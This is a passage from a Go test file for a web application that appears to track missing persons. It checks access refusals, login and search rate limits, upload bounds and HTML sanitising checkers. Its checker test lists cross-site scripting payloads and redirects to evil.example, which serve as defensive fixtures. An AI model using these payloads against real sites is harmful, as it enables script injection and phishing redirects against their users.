			if r := c.get("/"); r.status == http.StatusSeeOther && strings.HasPrefix(r.header.Get("Location"), "/login") {
				t.Errorf("%s: a refused request signed the user out", role)
			}
		}
	}
	if ch := refusedWrites(before, readState(t, ro)); len(ch) > 0 {
		t.Errorf("refused requests wrote %d rows, the first to %s: %v", len(ch), ch[0].table, ch[0].row)
	}

	// The API, with a session cookie and no token: refused as nobody's.
	admin := w.client()
	admin.login(paradero.RoleAdmin)
	doc := w.openAPI()
	for tmpl, ops := range doc.Paths {
		for m := range ops {
			if m == "get" {
				continue
			}
			p := fill("/api/v1" + tmpl)
			r := admin.do(strings.ToUpper(m), p, url.Values{"csrf": {admin.csrfFrom("/")}}, "Content-Type", "application/json")
			if r.status != http.StatusUnauthorized {
				t.Errorf("%s %s with a session cookie and no token = %d, want 401", strings.ToUpper(m), p, r.status)
			}
		}
	}
	if ch := refusedWrites(before, readState(t, ro)); len(ch) > 0 {
		t.Errorf("API calls without a token wrote to %s: %v", ch[0].table, ch[0].row)
	}
}

// refusedWrites is what changed between two states but the pending
// secret the two-factor setup page makes each time it is shown (a GET
// the test makes of every route) and the last use of an API token, which
// is kept whatever the call asked.
func refusedWrites(before, after dbState) []changedRow {
	var out []changedRow
	for _, ch := range diffStates(before, after) {
		if ch.table == "twofactor" && ch.row["enabled_at"] == nil || ch.table == "api_tokens" {
			continue
		}
		out = append(out, ch)
	}
	return out
}

// TestLoginRateLimits: failed sign-ins are counted per address however
// it is spelt and per client whatever it claims to be forwarded for;
// both limits lift when their window has passed.
func TestLoginRateLimits(t *testing.T) {
	w := newWorld(t)
	c := w.client()
	for i, email := range []string{"Admin@Example.org", " admin@example.org", "ADMIN@EXAMPLE.ORG ", "admin@example.org", "aDmin@example.ORG"} {
		r := c.post("/login", url.Values{"email": {email}, "password": {fmt.Sprint("wrong ", i)}})
		if r.status != http.StatusUnauthorized {
			t.Fatalf("failure %d (%q) = %d, want 401", i, email, r.status)
		}
	}
	if r := c.post("/login", url.Values{"email": {"admin@example.org"}, "password": {testPassword}}); r.status != http.StatusTooManyRequests {
		t.Errorf("the right password after five failures spelt five ways = %d, want 429", r.status)
	}
	w.offset.Add(int64(16 * time.Minute))
	c.login(paradero.RoleAdmin)

	// One client, many accounts: the per-client limit, which a forged
	// X-Forwarded-For does not reset.
	for i := range 20 {
		r := c.do("POST", "/login", url.Values{"email": {fmt.Sprintf("nadie%d@example.org", i)}, "password": {"x"}, "csrf": {c.csrfFrom("/stats")}},
			"X-Forwarded-For", fmt.Sprintf("198.51.100.%d", i), "X-Real-IP", fmt.Sprintf("198.51.100.%d", i))
		if r.status != http.StatusUnauthorized {
			t.Fatalf("failure %d = %d, want 401", i, r.status)
		}
	}
	other := w.client()
	r := other.do("POST", "/login", url.Values{"email": {"documenter@example.org"}, "password": {testPassword}, "csrf": {other.csrfFrom("/login")}},
		"X-Forwarded-For", "203.0.113.9")
	if r.status != http.StatusTooManyRequests {
		t.Errorf("a right password from a client with 20 failures = %d, want 429", r.status)
	}
	w.offset.Add(int64(16 * time.Minute))
	other.login(paradero.RoleDocumenter)
}

// TestSearchRateLimit: a user's searches on the page, in the API and for
// tracing candidates count against one limit; another user is not held
// back; the limit lifts after a minute.
func TestSearchRateLimit(t *testing.T) {
	w := newWorld(t)
	w.linked()
	fam := w.client()
	fam.login(paradero.RoleFamily)
	ref, _ := fam.file("José Pérez Gómez")
	doc := w.client()
	doc.login(paradero.RoleDocumenter)
	if r := doc.post("/tracing/"+ref+"/verify", url.Values{"method": {"in-person"}, "note": {"visto"}}); r.status != http.StatusSeeOther {
		t.Fatalf("verify = %d", r.status)
	}
	api := w.api(paradero.RoleDocumenter)
	n := 0
	for ; n < 100; n++ {
		var status int
		switch n % 3 {
		case 0:
			status = doc.post("/search", url.Values{"name": {"Pérez"}}).status
		case 1:
			status = api.json("POST", "/api/v1/search", map[string]string{"name": "Pérez"}).status
		default:
			status = doc.get("/tracing/" + ref + "/candidates").status
		}
		if status == http.StatusTooManyRequests {
			break
		}
		if status != http.StatusOK {
			t.Fatalf("search %d = %d", n, status)
		}
	}
	if n != 30 {
		t.Errorf("the 429 came after %d searches, want 30", n)
	}
	if r := api.json("POST", "/api/v1/search", map[string]string{"name": "Pérez"}); r.status != http.StatusTooManyRequests ||
		r.errorCode() != "rate_limited" || r.header.Get("Retry-After") == "" {
		t.Errorf("API search over the limit = %d %q, Retry-After %q", r.status, r.errorCode(), r.header.Get("Retry-After"))
	}
	if r := doc.get("/tracing/" + ref + "/candidates"); r.status != http.StatusTooManyRequests {
		t.Errorf("tracing candidates over the limit = %d, want 429", r.status)
	}
	admin := w.client()
	admin.login(paradero.RoleAdmin)
	if r := admin.post("/search", url.Values{"name": {"Pérez"}}); r.status != http.StatusOK {
		t.Errorf("another user's search = %d, want 200", r.status)
	}
	w.offset.Add(int64(61 * time.Second))
	if r := doc.post("/search", url.Values{"name": {"Pérez"}}); r.status != http.StatusOK {
		t.Errorf("a search a minute later = %d, want 200", r.status)
	}
}

// TestUploadBounds: a body is bounded before it is read — a form for
// everyone, a file for those who import — and a file that is no list is
// refused by line, not stored.
func TestUploadBounds(t *testing.T) {
	w := newWorld(t)
	api := w.api(paradero.RoleDocumenter)
	ro := openReadOnly(t, w.db)
	before := readState(t, ro)
	fam := w.client()
	fam.login(paradero.RoleFamily)
	big := strings.Repeat("x", 70<<10)
	if r := fam.post("/tracing", url.Values{"sought_name": {big}}); r.status != http.StatusRequestEntityTooLarge {
		t.Errorf("a family member's 70 KiB form = %d, want 413", r.status)
	}
	if r := fam.postMultipart("/tracing", map[string]string{"sought_name": "Ana"}, "x.csv", big); r.status != http.StatusRequestEntityTooLarge {
		t.Errorf("a family member's 70 KiB multipart form = %d, want 413", r.status)
	}
	doc := w.client()
	doc.login(paradero.RoleDocumenter)
	if r := doc.postMultipart("/import", map[string]string{"kind": "roster"}, "big.csv", "nombre\n"+strings.Repeat("Ana Pérez\n", (32<<20)/10+1)); r.status != http.StatusRequestEntityTooLarge {
		t.Errorf("a 32 MiB upload = %d, want 413", r.status)
	}
	for _, f := range []struct{ name, content string }{
		{"foto.png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"},
		{"lista.csv", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00"},
		{"programa.exe", "MZ\x90\x00\x03\x00\x00\x00"},
		{"lista.xlsx", "PK\x03\x04 not a workbook"},
		{"página.html", "<html><script>alert(1)</script></html>"},
	} {
		r := doc.postMultipart("/import", map[string]string{"kind": "roster"}, f.name, f.content)
		if r.status >= 500 || r.status == http.StatusOK && strings.Contains(r.body, `action="/import/`) {
			t.Errorf("uploading %s = %d, offered for import", f.name, r.status)
		}
		checkHostilePage(t, "uploading "+f.name, r)
	}
	if r := api.send("POST", "/api/v1/search", strings.NewReader(`{"name":"`+strings.Repeat("a", 70<<10)+`"}`), "application/json"); r.status != http.StatusRequestEntityTooLarge || r.errorCode() != "too_large" {
		t.Errorf("a 70 KiB API body = %d %q, want 413 too_large", r.status, r.errorCode())
	}
	if ch := refusedWrites(before, readState(t, ro)); len(ch) > 0 {
		t.Errorf("refused uploads wrote to %s: %v", ch[0].table, ch[0].row)
	}
}

// TestAttackCheckers checks the checkers the attack and fuzz tests rely
// on: each catches what it is for and passes the application's own
// markup.
func TestAttackCheckers(t *testing.T) {
	for _, tc := range []struct {
		doc  string
		want bool // inert
	}{
		{`<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`, true},
		{`<a href="/persons/1?x=1#y">x</a><form action="/search" method="post"></form><a href="?page=2">→</a>`, true},
		{`<a href="https://example.org/">x</a><a href="mailto:x@example.org">x</a>`, true},
		{`<svg viewBox="0 0 1 1" role="img"><rect width="1" height="1"></rect></svg>`, true},
		{`<script>alert(1)</script>`, false},
		{`"><img src=x onerror=alert(1)>`, false},
		{`<svg onload=alert(1)>`, false},
		{`<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>`, false},
		{`<a href=" JaVaScRiPt:alert(1)">x</a>`, false},
		{`<a href="java&#x09;script:alert(1)">x</a>`, false},
		{`<a href="data:text/html,x">x</a>`, false},
		{`<form action="https://evil.example/"></form>`, false},
		{`<button formaction="javascript:alert(1)">x</button>`, false},
		{`<p style="background:url(x)">x</p>`, false},
		{`<meta http-equiv="refresh" content="0;url=https://evil.example">`, false},
		{`<iframe src="/"></iframe>`, false},
		{`<base href="https://evil.example/">`, false},
	} {
		doc, err := html.Parse(strings.NewReader(tc.doc))
		if err != nil {
			t.Fatal(err)
		}
		if err := inertHTML(doc, 0); (err == nil) != tc.want {
			t.Errorf("inertHTML(%s) = %v, want inert %v", tc.doc, err, tc.want)
		}
	}
	for u, want := range map[string]bool{"/": true, "/login?next=%2F": true, "//evil.example": false, `/\evil.example`: false,
		"https://evil.example/": false, "javascript:alert(1)": false, "": false} {
		if got := localTarget(u); got != want {
			t.Errorf("localTarget(%q) = %v, want %v", u, got, want)
		}
	}
}
